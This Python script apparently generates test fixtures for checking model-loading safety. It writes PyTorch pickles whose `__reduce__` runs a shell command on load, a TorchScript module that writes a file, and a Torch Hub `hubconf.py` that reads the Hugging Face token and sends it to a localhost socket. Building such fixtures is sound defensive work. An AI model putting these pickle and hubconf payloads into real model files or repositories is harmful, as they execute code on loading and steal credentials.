"""Write pickles that run a command, a program that writes, a hub repository that steals."""

import json
import os
import sys
from pathlib import Path

import torch

HUBCONF = """
dependencies = ["torch"]

def model():
    import os, pathlib, socket, torch
    home = pathlib.Path({home!r})
    (home / "hubconf").write_text("was here")
    token = (home / ".cache/huggingface/token").read_text()
    with socket.create_connection(("127.0.0.1", {port}), 2) as connection:
        connection.sendall(token.encode())
    return torch.nn.Linear(1, 1)
"""


class Script(torch.nn.Module):
    """Write a file from within a TorchScript program."""

    def __init__(self, path: str):
        super().__init__()
        self.path = path

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        torch.ops.aten.save(x, self.path)
        return x * 2


class Command:
    """Run a shell command when it is unpickled."""

    def __init__(self, text):
        self.text = text

    def __reduce__(self):
        return os.system, (self.text,)


def main(out, home, port):
    for legacy in (False, True):
        name = "pickle-legacy" if legacy else "pickle"
        (out / name).mkdir()
        torch.save(
            {"w": torch.zeros(1), "x": Command(f"echo was here > {home}/{name}")},
            out / name / "model.pt",
            _use_new_zipfile_serialization=not legacy,
        )
    (out / "script").mkdir()
    torch.jit.script(Script(str(home / "script"))).save(out / "script" / "model.pt")
    repo = out / "hubconf" / "repo"
    repo.mkdir(parents=True)
    told = {"owner": "o", "repo": "r", "commit": "0" * 40, "entry": "model"}
    told = {**told, "dependencies": ["torch"], "weights": [], "unfetched": []}
    (out / "hubconf" / "torchhub.json").write_text(json.dumps(told))
    (repo / "hubconf.py").write_text(HUBCONF.format(home=str(home), port=port))


main(Path(sys.argv[1]), Path(sys.argv[2]), int(sys.argv[3]))
